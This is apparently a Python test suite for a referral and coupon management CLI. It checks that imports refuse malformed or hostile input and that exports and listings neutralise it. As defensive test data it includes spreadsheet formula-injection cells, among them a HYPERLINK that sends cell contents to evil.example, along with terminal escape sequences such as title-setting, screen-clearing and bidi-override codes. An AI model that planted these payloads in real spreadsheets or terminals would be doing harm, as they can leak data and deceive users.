"""t_import.py: operator input and output at shokaictl's edges (issue 10, point 5). An
imported file is checked whole and refused whole: each hostile line (invalid UTF-8, a
control character, a NUL, a formula-like code, an over-long line) names its line, exits 1
and writes nothing. CSV exports neutralise formula-like cells; `shokaid -t` refuses a
reps CSV with a formula-like code; listings show control characters escaped."""
import csv
import io
import os
import subprocess
import time

from harness import USER, Daemon, expect, make_config, run_check
from sim import CTL, ctl, ctl_run

REPS = """
branches:
  - { code: shinjuku, name: 新宿支店 }
reps:
  - { code: R001, name: 高橋 美咲, branch: shinjuku }
"""


def import_daemon():
    return Daemon(config=make_config() + REPS)


def write(d, name, data):
    with open(d.path(name), "wb") as f:
        f.write(data)
    return d.path(name)


def coupons(d):
    return d.query("SELECT count(*) FROM coupons")[0][0]


def refused(d, data, line, why, kind="coupons"):
    """Imports data (bytes) into a pool that already holds one code: it must be refused
    as a whole, naming line and why, and leave the database as it was."""
    ctl(d, "import", "coupons", "--new-pool", "quo", write(d, "seed.txt", b"SEED-1\n"))
    before = d.query("SELECT pool, code FROM coupons ORDER BY 1, 2")
    cust = d.query("SELECT count(*) FROM customers")
    args = ["import", "coupons", "--new-pool", "quo"] if kind == "coupons" else ["import", "customers"]
    p = ctl_run(d, *args, write(d, "in.csv", data))
    err = p.stderr.decode(errors="replace")
    expect(p.returncode == 1, f"exit {p.returncode}: {err}")
    want = f"in.csv: line {line}: {why}"
    expect(want in err, f"expected {want!r} in:\n{err}")
    expect("nothing was imported" in err, err)
    expect(p.stdout == b"", p.stdout)
    expect(d.query("SELECT pool, code FROM coupons ORDER BY 1, 2") == before,
           "the coupons changed")
    expect(d.query("SELECT count(*) FROM customers") == cust, "the customers changed")
    return err


GOOD = b"QUO-0001\nQUO-0002\nQUO-0003\n"


def test_import_a_good_file_with_header_bom_crlf_quotes_and_blank_lines():
    with import_daemon() as d:
        data = (b"\xef\xbb\xbfcode,amount\r\nQUO-0001,1000\r\n\r\n\"QUO-0002\",1000\r\n"
                b"  QUO-0003  \r\nQUO-0001,1000\r\nhttps://gift.example/c?id=9&k=x#1")
        out = ctl(d, "import", "coupons", "--new-pool", "quo", write(d, "good.csv", data))
        expect(out.startswith("4 coupon code(s) imported (the others were there already);"),
               out)
        got = d.query("SELECT code FROM coupons WHERE pool = 'quo' ORDER BY code")
        expect(got == [("QUO-0001",), ("QUO-0002",), ("QUO-0003",),
                       ("https://gift.example/c?id=9&k=x#1",)], got)
        out = ctl(d, "import", "coupons", "--new-pool", "quo", write(d, "good.csv", data))
        expect(out.startswith("0 coupon code(s) imported"), out)


def test_import_refuses_invalid_utf8_naming_the_line():
    with import_daemon() as d:
        refused(d, GOOD + b"QUO-\xff0004\n", 4, "invalid UTF-8 at byte 5")
        refused(d, b"\xe3\x81QUO\n" + GOOD, 1, "invalid UTF-8 at byte 1")


def test_import_refuses_control_characters_naming_the_line():
    with import_daemon() as d:
        refused(d, GOOD + b"QUO-\x1b[31m0004\n", 4,
                "control character U+001B (ESC) at byte 5")
        refused(d, b"QUO-1\tQUO-2\n", 1, "control character U+0009 (tab) at byte 6")
        refused(d, b"QUO-1\rQUO-2\n", 1, "control character U+000D (CR) at byte 6")
        refused(d, b"QUO-1\xc2\x9b2J\n", 1, "control character U+009B at byte 6")


def test_import_refuses_a_nul_instead_of_truncating_the_code():
    with import_daemon() as d:
        refused(d, GOOD + b"QUO-0004\x00EXTRA\n", 4,
                "control character U+0000 (NUL) at byte 9")


def test_import_refuses_formula_like_codes():
    with import_daemon() as d:
        for i, cell in enumerate([b"=HYPERLINK(\"http://x\")", b"+81", b"-1+2", b"@SUM(A1)"]):
            ch = cell[:1].decode()
            refused(d, GOOD + cell + b"\n", 4, f"the code starts with '{ch}', which a "
                    "spreadsheet reads as a formula")
        refused(d, b"QUO 1\n", 1, "character 4 of the code is not allowed")
        refused(d, "クオカード\n".encode(), 1, "character 1 of the code is not allowed")


def test_import_refuses_an_over_long_line_instead_of_splitting_it():
    with import_daemon() as d:
        refused(d, GOOD + b"Q" * 5000 + b"\n" + GOOD, 4, "a line of 5000 bytes; at most 1024")
        refused(d, b"Q" * 300 + b"\n", 1, "a code of 300 bytes; at most 256")


def test_import_lists_every_bad_line_up_to_twenty():
    with import_daemon() as d:
        data = b"".join(b"=BAD-%d\n" % i if i % 2 else b"GOOD-%d\n" % i for i in range(60))
        err = refused(d, data, 2, "the code starts with '='")
        listed = [l for l in err.splitlines() if ": line " in l]
        expect(len(listed) == 20, listed)
        expect(listed[-1].endswith("in.csv: line 40: the code starts with '=', which a "
                                   "spreadsheet reads as a formula"), listed[-1])
        expect("30 line(s) refused (the first 20 are listed); nothing was imported" in err,
               err)


def test_import_coupons_to_a_pool_no_campaign_names_needs_new_pool():
    with import_daemon() as d:
        p = ctl_run(d, "import", "coupons", "quo", write(d, "q.txt", b"Q-1\n"))
        err = p.stderr.decode()
        expect(p.returncode == 1 and "no campaign's reward names it" in err, err)
        expect(coupons(d) == 0, "imported anyway")


def test_import_customers_checks_every_field():
    with import_daemon() as d:
        uid = "U" + "0" * 32
        refused(d, f"user_id,rep_code\n{uid},R001\nUxyz,R001\n".encode(), 3,
                "user_id: expected a LINE user id", kind="customers")
        refused(d, f"{uid},R999\n".encode(), 1, "rep_code: no rep with this code under reps",
                kind="customers")
        refused(d, f"{uid},R001,nosuch\n".encode(), 1,
                "channel: no LINE channel with this id", kind="customers")
        refused(d, f"{uid},R001,main,extra\n".encode(), 1,
                "partner: expected partner, customer or nothing", kind="customers")
        refused(d, f"{uid},R001,main,partner,x\n".encode(), 1,
                "expected user_id,rep_code[,channel[,partner]]", kind="customers")
        refused(d, f"{uid},=R001\n".encode(), 1, "rep_code: no rep", kind="customers")
        refused(d, f"{uid},R001\x1b\n".encode(), 1, "control character U+001B (ESC) at byte 39",
                kind="customers")
        out = ctl(d, "import", "customers", write(d, "c.csv", f"user_id,rep_code\n{uid},r001\n"
                                                  f"{USER},R001,main\n".encode()))
        expect(out.startswith("2 customer(s) imported;"), out)
        got = d.query("SELECT channel, user_id, rep_code FROM customers ORDER BY user_id")
        expect(got == [("main", uid, "R001"), ("main", USER, "R001")], got)
        # The partner column tags the customer partner (the campaigns' partner stages);
        # the channel may be left empty before it.
        out = ctl(d, "import", "customers", write(d, "p.csv", f"{uid},R001,,partner\n"
                                                  f"{USER},R001,main,customer\n".encode()))
        expect(out.startswith("2 customer(s) imported;"), out)
        got = d.query("SELECT tag, user_id FROM customer_tags")
        expect(got == [("partner", uid)], got)


def test_an_import_stopped_midway_is_finished_by_running_it_again():
    with import_daemon() as d:
        path = write(d, "codes.txt", b"".join(b"QUO-%04d\n" % i for i in range(10)))
        env = dict(os.environ, SHOKAI_FAULT="import_after_first_chunk")
        p = subprocess.run([CTL, "-c", d.config_path, "import", "coupons", "--new-pool", "quo", path],
                           capture_output=True, timeout=10, env=env)
        expect(p.returncode == 3, p)
        expect(coupons(d) == 1, f"{coupons(d)} codes after the first chunk")
        out = ctl(d, "import", "coupons", "--new-pool", "quo", path)
        expect(out.startswith("9 coupon code(s) imported (the others were there already)"),
               out)
        expect(coupons(d) == 10, coupons(d))


HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+81-3-1234", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_csv_exports_neutralise_formula_like_cells():
    with import_daemon() as d:
        c = d.db()
        now = int(time.time() * 1000)
        for i, v in enumerate(HOSTILE):
            c.execute("INSERT INTO referral_codes VALUES (?, 'main', ?, 'now', ?)",
                      (f"CODE{i}", f"ref{i}", now))
            c.execute("INSERT INTO referrals(channel, campaign, code, referrer_id, referee_id, "
                      "rep_code, state, claimed_at, updated_at) VALUES ('main', 'now', ?, ?, "
                      "?, ?, 'claimed', ?, ?)", (f"CODE{i}", v, f"friend{i}", v, now, now))
            c.execute("INSERT INTO referral_events(at, type, referrer_id, rep_code, branch, "
                      "campaign) VALUES (?, 'claimed', ?, ?, ?, ?)", (now, v, v, v, v))
        c.commit()
        c.close()
        exports = [ctl(d, "referrals", "list", "--format", "csv")]
        for by in ("branch", "rep", "campaign", "referrer"):
            exports.append(ctl(d, "report", "--by", by, "--format", "csv"))
        for text in exports:
            rows = list(csv.reader(io.StringIO(text, newline="")))
            cells = [cell for row in rows[1:] for cell in row]
            for v in HOSTILE:
                expect("'" + v in cells, f"{v!r} not neutralised in:\n{text}")
                expect(v not in cells, f"{v!r} exported as is:\n{text}")
            for cell in cells:
                expect(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or
                       cell.lstrip("-").isdigit(), f"formula-like cell {cell!r}")
        # The neutralised cell is quoted, so its ' and any comma or quote stay in it.
        expect('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in exports[0],
               exports[0])


def test_check_refuses_a_reps_csv_with_a_formula_like_code():
    with Daemon(config=make_config() + "reps_csv: reps.csv\n", start=False) as d:
        write(d, "reps.csv", "code,name\nR001,高橋 美咲\n=1+2,佐藤\n-R3,鈴木\n".encode() +
              b"R4,=HYPERLINK(\"x\")\nR5,A\x00B\nR6,A\x1b[2JB\nR7,\xff\n")
        rc, out, err = run_check(d.config_path)
        expect(rc == 1, (rc, out, err))
        for want in ["reps.csv:3:1: rep code '=1+2' starts with '=', which a spreadsheet "
                     "reads as a formula",
                     "reps.csv:4:1: rep code '-R3' starts with '-'",
                     "reps.csv:5:1: rep R4: name '=HYPERLINK(\"x\")' starts with '='",
                     "reps.csv:6:1: control character U+0000 (NUL) at byte 5",
                     "reps.csv:7:1: control character U+001B (ESC) at byte 5",
                     "reps.csv:8:1: invalid UTF-8 at byte 4"]:
            expect(want in err, f"expected {want!r} in:\n{err}")
        expect("\x1b" not in err and "\x00" not in err, "a refused byte was echoed")
        write(d, "reps.csv", "code,name\nR001,高橋 美咲\n".encode())
        rc, out, err = run_check(d.config_path)
        expect(rc == 0, (rc, out, err))


ESC_NAME = "\x1b]0;owned\x07鈴木\x1b[2J\u202e一郎\u009b"


def test_listings_escape_control_characters():
    with import_daemon() as d:
        c = d.db()
        now = int(time.time() * 1000)
        c.execute("INSERT INTO profiles(channel, user_id, display_name, found, fetched_at) "
                  "VALUES ('main', ?, ?, 1, ?)", (USER, ESC_NAME, now))
        c.execute("INSERT INTO referral_codes VALUES ('CODE1', 'main', ?, 'now', ?)", (USER, now))
        c.execute("INSERT INTO referrals(channel, campaign, code, referrer_id, referee_id, "
                  "rep_code, state, claimed_at, updated_at) VALUES ('main', 'now', 'CODE1', "
                  "?, ?, 'R001', 'claimed', ?, ?)", (USER, ESC_NAME, now, now))
        c.execute("INSERT INTO rewards(referral_id, side, user_id, campaign, pool, state, "
                  "due_at, approve_after, note) VALUES (1, 'referrer', ?, 'now', 'quo', "
                  "'pending', 0, 0, ?)", (USER, ESC_NAME))
        c.execute("INSERT INTO outbox(platform, channel, kind, target, body, retry_key, state, "
                  "attempts, next_attempt_at, created_at, last_error) VALUES ('line', 'main', "
                  "'push', ?, '{}', 'k1', 'failed', 1, 0, 0, ?)", (USER, ESC_NAME))
        c.execute("INSERT INTO quarantine(platform, channel, received_at, reason, body) "
                  "VALUES ('line', 'main', 0, 'not JSON', ?)",
                  (("{\n\t\"a\": \"" + ESC_NAME + "\"\n}").encode() + b"\xff",))
        c.commit()
        c.close()
        want = "\\x1b]0;owned\\x07鈴木\\x1b[2J\\u202e一郎\\u009b"
        # A quarantined body keeps its line breaks and tabs; the rest is escaped.
        out = ctl(d, "quarantine", "show", "1")
        expect(out.endswith("body:\n{\n\t\"a\": \"" + want + "\"\n}\\xff\n"), repr(out))
        for args in (["profile", "main", USER], ["referrals", "list"],
                     ["referrals", "show", "1"], ["rewards", "list"], ["outbox"]):
            out = ctl(d, *args)
            expect(want in out, f"{args}: {out!r}")
            expect("\x1b" not in out and "\x07" not in out and "\u202e" not in out and
                   "\x9b" not in out, f"{args}: a control character reached the terminal")
